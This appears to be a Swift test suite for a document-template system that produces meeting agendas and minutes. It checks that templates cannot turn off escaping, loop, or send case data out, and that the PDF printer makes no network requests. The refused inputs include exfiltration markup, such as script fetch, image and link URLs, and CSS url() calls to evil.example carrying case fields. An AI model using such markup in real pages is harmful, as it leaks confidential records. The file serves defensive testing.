import Foundation
#if canImport(Glibc)
import Glibc
#endif
import KasaneCore
import Mustache
import Testing

@testable import KasaneDocuments

@Suite("A city's template is data: no pragma, no channel out of the page, no loop")
struct TemplateSafetyTests {
    func problems(_ key: String, _ text: String) -> [TemplateProblem] {
        var texts = BuiltInAgendas.templates
        texts[key] = text
        return DocumentTemplates.check(texts, label: { $0 })
    }

    @Test("A pragma that would turn escaping off is refused, whatever it says")
    func pragmas() {
        for text in ["{{% CONTENT_TYPE: TEXT}}\n{{>header}}{{>confidentiality}}", "{{%CONTENT_TYPE:TEXT}}{{>header}}", "{{% ANYTHING }}{{>header}}"] {
            #expect(problems("html/agenda-supportMeeting", text).contains { $0.message.contains("設定の指定") }, "\(text)")
        }
    }

    @Test("Markup that sends a case out, loads, runs or frames is refused, in every form; plain markup passes")
    func markup() {
        let key = "html/item"
        let refused = [
            #"<meta http-equiv="refresh" content="0;url=https://evil.example/?{{caseSummary}}">"#,
            #"<a href="https://evil.example/?{{caseSummary}}">x</a>"#,
            #"<img src="https://evil.example/{{caseCode}}.png">"#,
            #"<form action="https://evil.example/"><input name="x" value="{{caseSummary}}"></form>"#,
            #"<iframe src="//evil.example"></iframe>"#, #"<script>fetch('//evil.example')</script>"#,
            #"<link rel="stylesheet" href="https://evil.example/x.css">"#, #"<base href="https://evil.example/">"#,
            #"<object data="x"></object>"#, #"<p onclick="x()">y</p>"#, #"<p style="background:url(https://evil.example/{{caseCode}})">y</p>"#,
            #"<svg><image href="x"/></svg>"#, #"<{{caseCode}}>"#, #"<p {{caseCode}}="x">"#, "<style>p{}</style>",
            #"<META HTTP-EQUIV="REFRESH" CONTENT="0">"#, "<p data-x=\"{{caseSummary}}\">", "<div",
        ]
        for text in refused {
            let found = problems(key, "<section>\(text)</section>\n")
            #expect(!found.isEmpty && found.allSatisfy { $0.file == key }, "\(text): \(found)")
        }
        for text in [#"<p class="note" title="{{caseCode}}">{{caseSummary}}</p>"#, "<!-- a comment -->", #"<table><tr><th scope="col">x</th></tr></table>"#, "1 < 2"] {
            let found = problems(key, "<section class=\"item\">\(text)\n")
            #expect(found.isEmpty, "\(text): \(found)")
        }
        // The style partial: CSS, but nothing that loads or carries a value.
        for css in ["p { background: url(https://evil.example/) }", "@import 'x.css';", "p::after { content: \"{{caseSummary}}\" }", "p { x: \\75 rl(x) }"] {
            #expect(!problems("html/style", "<style>\(css)</style>\n").isEmpty, "\(css)")
        }
        #expect(problems("html/style", "<style>p { color: #333; }</style>\n").isEmpty)
        // Markdown: no raw HTML, links, images or URLs.
        for text in ["[x](https://evil.example/?{{caseSummary}})", "![x]({{caseCode}})", "<img src=x>", "https://evil.example/{{caseCode}}", "[x]: https://e.example"] {
            #expect(!problems("markdown/item", "### {{number}}\n\(text)\n").isEmpty, "\(text)")
        }
        #expect(DocumentTemplates.check(BuiltInAgendas.templates, label: { $0 }).isEmpty)
    }

    @Test("A partial that includes itself, directly or through another, is refused; none can be compiled")
    func cycles() throws {
        #expect(problems("html/item", "<section>{{>item}}\n").contains { $0.message.contains("自分自身") })
        var texts = BuiltInAgendas.templates
        texts["html/item"] = "<section>\n{{>attendance}}\n"
        texts["html/attendance"] = "<p>\n{{>item}}\n"
        #expect(DocumentTemplates.check(texts, label: { $0 }).contains { $0.message.contains("item → attendance → item") })
        #expect(throws: (any Error).self) { try DocumentTemplates.compile(texts, source: "test") }
    }

    @Test("Partials written into their documents render exactly as Mustache renders them through the library")
    func inliningKeepsOutput() throws {
        var library: [String: MustacheLibrary] = [:]
        MustacheContentTypes.register(MarkdownContentType(), named: "MARKDOWN")
        for format in ["markdown", "html"] {
            var l = MustacheLibrary()
            for (key, text) in BuiltInAgendas.templates where key.hasPrefix(format + "/") {
                l.register(try MustacheTemplate(string: (format == "markdown" ? "{{% CONTENT_TYPE: MARKDOWN}}" : "") + text), named: String(key.dropFirst(format.count + 1)))
            }
            library[format] = l
        }
        for reading in [DocumentReading.attendee, .distributed] {
            for minutes in [true, false] {
                for kind in MeetingKind.allCases {
                    var doc = sampleDocument(reading: reading, minutes: minutes)
                    doc.kind = kind
                    let name = "\(minutes ? "minutes" : "agenda")-\(kind == .supportMeeting ? "supportMeeting" : "multiLayeredSupportMeeting")"
                    for format in [DocumentFormat.markdown, .html] {
                        // (Through the library, the Markdown pragma shared the first line with {{>header}}, which
                        // then kept its line end: one blank line more, which Markdown does not show.)
                        func blankLines(_ s: String?) -> String? { s?.replacing(/\n{3,}/, with: "\n\n") }
                        let old = library[format.folder]?.render(DocumentView(doc, generatedOn: LocalDate("2026-12-03")!), withTemplate: name)
                        let new = DocumentTemplates.builtIn.render(doc, as: format, today: LocalDate("2026-12-03")!)
                        #expect(format == .html ? old == new : blankLines(old) == blankLines(new), "\(name) \(format) \(reading)")
                    }
                }
            }
        }
        // Indented standalone partials get the indentation on each line, as the spec says.
        #expect(try TemplateInliner.inline("<ul>\n  {{>p}}\n</ul>\n", partials: ["p": "<li>a</li>\n<li>b</li>\n"], chain: ["t"])
            == "<ul>\n  <li>a</li>\n  <li>b</li>\n</ul>\n")
    }
}

@Suite("The PDF printer opens the page with no network")
struct PDFNetworkTests {
    /// (A refresh is refused by the template checker, and a value never becomes markup, so the
    /// printed page can only try to load: that is what is tried here.)
    @Test("A page that tries to load from a server on this machine prints, and the server sees no request")
    func noNetwork() async throws {
        let dir = FileManager.default.temporaryDirectory.appending(path: "kasane-pdf-net-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        // A listener that writes down every request it gets.
        let log = dir.appending(path: "requests.log")
        let server = Process()
        server.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        server.arguments = ["python3", "-c", """
            import http.server, socket, sys
            class H(http.server.BaseHTTPRequestHandler):
                def do_GET(self):
                    open(sys.argv[1], 'a').write(self.path + '\\n'); self.send_response(200); self.end_headers()
                def log_message(self, *a): pass
            s = http.server.HTTPServer(('127.0.0.1', 0), H)
            open(sys.argv[2], 'w').write(str(s.server_port)); s.serve_forever()
            """, log.path, dir.appending(path: "port").path]
        server.standardOutput = FileHandle.nullDevice
        server.standardError = FileHandle.nullDevice
        try server.run()
        // SIGKILL: a child of the test runner may not hear SIGTERM.
        defer { kill(server.processIdentifier, SIGKILL); server.waitUntilExit() }
        var port = ""
        for _ in 0..<50 where port.isEmpty {
            try await Task.sleep(for: .milliseconds(100))
            port = (try? String(contentsOf: dir.appending(path: "port"), encoding: .utf8)) ?? ""
        }
        let html = """
            <!DOCTYPE html><html><head><meta charset="utf-8">
            <link rel="stylesheet" href="http://127.0.0.1:\(port)/style.css">
            </head><body><p>議事録</p><img src="http://127.0.0.1:\(port)/leak.png"><img src="http://example.com/leak.png"></body></html>
            """
        let pdf = try await PDFPrinter.print(html: html)
        #expect(pdf.starts(with: Data("%PDF".utf8)))
        try await Task.sleep(for: .milliseconds(300))
        let requests = (try? String(contentsOf: log, encoding: .utf8)) ?? ""
        #expect(!port.isEmpty && requests.isEmpty, "requests reached the server: \(requests)")
        #expect(PDFPrinter.lockedDown("<html><head><title>x</title>").contains("<head>\n<meta http-equiv=\"Content-Security-Policy\""))
    }
}
